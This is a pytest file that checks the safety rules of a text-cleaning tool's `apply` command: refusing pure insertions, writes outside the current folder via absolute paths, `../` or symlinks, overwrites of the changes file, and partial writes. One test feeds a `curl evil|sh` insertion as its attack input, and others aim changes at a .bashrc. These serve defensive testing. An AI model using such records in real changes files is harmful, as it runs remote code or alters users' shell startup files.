"""What `normalise apply` may write: only the files it is given or, with none given,
files under the current folder; never a pure insertion; all files or none; never the
changes file itself; a rerun after an apply (or an interrupted one) is a no-op.

Each test replays an attack of issue 25 (its defect id is in the docstring)."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

Cli = Callable[..., tuple[int, bytes, str]]


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "work").mkdir()
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".bashrc").write_text("export A=1\n")
    monkeypatch.chdir(tmp_path / "work")
    return tmp_path / "work"


def _changes(path: Path, *records: dict[str, object]) -> None:
    path.write_text("".join(json.dumps(r) + "\n" for r in records))


def _change(file: str, start: int, original: str, replacement: str) -> dict[str, object]:
    return {
        "file": file,
        "start": start,
        "end": start + len(original),
        "original": original,
        "replacement": replacement,
    }


def test_a_pure_insertion_is_refused(cli: Cli, folder: Path) -> None:
    """S1: a changes file that inserts a command at the top of a file replaces nothing,
    which no repair does."""
    (folder / "a.txt").write_text("Bytdance said.\n")
    _changes(folder / "acc.jsonl", _change("a.txt", 0, "", "curl evil|sh\n"))
    code, _, err = cli(["apply", "acc.jsonl", "--in-place", "-q"])
    assert code == 2
    assert "replaces nothing" in err
    assert (folder / "a.txt").read_text() == "Bytdance said.\n"


@pytest.mark.parametrize("how", ["absolute", "parent", "symlink"])
def test_without_files_given_apply_writes_only_under_the_current_folder(
    cli: Cli, folder: Path, how: str
) -> None:
    """S1: a changes file naming /home/me/.bashrc, ../x or a link out of the folder."""
    bashrc = folder.parent / "home" / ".bashrc"
    if how == "absolute":
        name = str(bashrc)
    elif how == "parent":
        name = "../home/.bashrc"
    else:
        (folder / "link").symlink_to(folder.parent / "home")
        name = "link/.bashrc"
    _changes(folder / "acc.jsonl", _change(name, 0, "export", "exporx"))
    code, _, err = cli(["apply", "acc.jsonl", "--in-place", "-q"])
    assert code == 2
    assert "not under the current folder" in err
    assert bashrc.read_text() == "export A=1\n"
    # Given on the command line, the file is the user's choice.
    code, _, _ = cli(["apply", "acc.jsonl", name, "--in-place", "-q"])
    assert code == 0
    assert bashrc.read_text() == "exporx A=1\n"


def test_apply_never_writes_over_its_changes_file(cli: Cli, folder: Path) -> None:
    """D3: `normalise apply ch.jsonl -o ch.jsonl` overwrote the reviewed changes."""
    (folder / "a.txt").write_text("Bytdance said.\n")
    _changes(folder / "ch.jsonl", _change("a.txt", 0, "Bytdance", "ByteDance"))
    before = (folder / "ch.jsonl").read_text()
    code, _, err = cli(["apply", "ch.jsonl", "-o", "ch.jsonl"])
    assert code == 2
    assert "is the changes file" in err
    assert (folder / "ch.jsonl").read_text() == before


def test_one_file_under_two_spellings_is_refused(cli: Cli, folder: Path) -> None:
    """W5: a.txt and ./a.txt were applied in halves."""
    (folder / "a.txt").write_text("Bytdance said.\n")
    _changes(folder / "ch.jsonl", _change("a.txt", 0, "Bytdance", "ByteDance"))
    code, _, err = cli(["apply", "ch.jsonl", "a.txt", "./a.txt", "--in-place"])
    assert code == 2
    assert "the same file as a.txt" in err
    assert (folder / "a.txt").read_text() == "Bytdance said.\n"


def test_nothing_is_written_when_one_output_cannot_be_encoded(cli: Cli, folder: Path) -> None:
    """W5: the first file was rewritten before the second failed to encode."""
    (folder / "b1.txt").write_text("Bytdance said.\n")
    (folder / "b2.txt").write_text("Zurich said.\n")
    _changes(
        folder / "ch.jsonl",
        _change("b1.txt", 0, "Bytdance", "ByteDance"),
        _change("b2.txt", 0, "Zurich", "Zürich→"),
    )
    code, _, err = cli(["apply", "ch.jsonl", "--in-place", "--encoding", "latin-1"])
    assert code == 2
    assert "b2.txt: the cleaned text cannot be written in latin-1" in err
    assert (folder / "b1.txt").read_text() == "Bytdance said.\n"


def test_rerunning_an_apply_is_a_no_op_that_says_so(cli: Cli, folder: Path) -> None:
    """W5: an interrupted apply could not be rerun (the files already written no longer
    fit their changes)."""
    (folder / "a.txt").write_text("Bytdance met Tickcock and Bytdance.\n")
    (folder / "b.txt").write_text("Tickcock.\n")
    _changes(
        folder / "ch.jsonl",
        _change("a.txt", 0, "Bytdance", "ByteDance"),
        _change("a.txt", 13, "Tickcock", "TikTok"),
        _change("a.txt", 26, "Bytdance", "ByteDance"),
        _change("b.txt", 0, "Tickcock", "TikTok"),
    )
    (folder / "a.txt").write_text("ByteDance met TikTok and ByteDance.\n")  # as if applied
    code, _, err = cli(["apply", "ch.jsonl", "--in-place"])
    assert code == 0
    assert "a.txt: its changes are applied already" in err
    assert (folder / "a.txt").read_text() == "ByteDance met TikTok and ByteDance.\n"
    assert (folder / "b.txt").read_text() == "TikTok.\n"
    code, _, err = cli(["apply", "ch.jsonl", "--in-place"])
    assert code == 0
    assert "b.txt: its changes are applied already" in err
    # A file that fits neither way is still an error.
    (folder / "b.txt").write_text("Other.\n")
    code, _, err = cli(["apply", "ch.jsonl", "--in-place"])
    assert code == 2
    assert "does not fit b.txt" in err
    assert os.path.exists(folder / "a.txt")


def test_a_file_given_under_another_spelling_than_the_changes_name_is_that_file(
    cli: Cli, folder: Path
) -> None:
    """explain was given /abs/a.txt, apply is given a.txt: the same file, applied."""
    (folder / "a.txt").write_text("Bytdance said.\n")
    _changes(folder / "acc.jsonl", _change(str(folder / "a.txt"), 0, "Bytdance", "ByteDance"))
    code, _, err = cli(["apply", "acc.jsonl", "a.txt", "--in-place", "-q"])
    assert code == 0, err
    assert (folder / "a.txt").read_text() == "ByteDance said.\n"


def test_byte_order_marks_are_kept_and_never_a_column(cli: Cli, folder: Path) -> None:
    """The utf-8-sig BOM (reopened from issue 25): a JSONL file that starts with one
    was refused ("Unexpected UTF-8 BOM"), a changes file saved with one too, and the
    explanation table counted it as a column. It is kept in the output, read past in
    JSON and never counted."""
    bom = "\ufeff"
    (folder / "r.jsonl").write_text(bom + '{"text": "Bytdance"}\n{"text": "Tickcock"}\n')
    code, out, err = cli(["clean", "-q", "--jsonl", "--field", "text", "r.jsonl"])
    assert (code, out.decode()) == (0, bom + '{"text": "ByteDance"}\n{"text": "TikTok"}\n'), err
    (folder / "a.txt").write_text(bom + "Bytdance said.\n")
    assert cli(["explain", "a.txt"])[1].decode().startswith("a.txt:1:1 ")
    code, out, _ = cli(["explain", "--format", "jsonl", "a.txt"])
    (folder / "acc.jsonl").write_text(bom + out.decode())
    code, _, err = cli(["apply", "acc.jsonl", "--in-place", "-q"])
    assert code == 0, err
    assert (folder / "a.txt").read_text() == bom + "ByteDance said.\n"
